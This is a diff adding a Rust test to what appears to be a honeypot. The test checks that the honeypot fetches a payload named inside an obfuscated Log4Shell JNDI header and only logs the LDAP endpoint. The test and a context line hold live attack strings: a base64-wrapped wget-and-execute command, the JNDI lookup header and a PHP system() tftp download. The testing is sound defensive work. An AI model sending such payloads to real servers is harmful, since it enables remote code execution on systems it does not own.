@@ -783,3 +783,25 @@ fn commands_inside_string_literals_are_fetched() {
     lab.attack(format!("<?php system('cd /tmp; tftp -g -r l3.sh -l lit3 {CLI4}'); ?>\n").into_bytes());
     lab.expect_download("lit3", &c);
 }
+
+#[test]
+fn jndi_lookup_commands_are_fetched_and_endpoints_only_logged() {
+    if !needs("jndi_lookup_commands_are_fetched_and_endpoints_only_logged") {
+        return;
+    }
+    let data = sample(44, 2600);
+    let lab = Lab::start(&[("l4j.sh", &data)], "");
+    let cmd = format!("cd /tmp; wget http://{CLI4}/l4j.sh -O /tmp/log4; sh /tmp/log4");
+    lab.attack(
+        format!(
+            "GET / HTTP/1.1\r\nHost: x\r\nX-Api-Version: ${{${{lower:j}}${{::-n}}di:ldap://{CLI4}:1389/Basic/Command/Base64/{}}}\r\n\r\n",
+            b64(cmd.as_bytes())
+        )
+        .into_bytes(),
+    );
+    lab.expect_download("log4", &data);
+    let log = lab.path("honeytrap.log");
+    let line = format!("JNDI lookup - Attack string names ldap://{CLI4}:1389, not contacted.");
+    assert!(wait_for_text(&log, &line, T), "{}", lab.log());
+    assert!(!lab.log().contains(":1389 ") && !lab.log().contains(&format!("{CLI4}:1389.")), "{}", lab.log());
+}
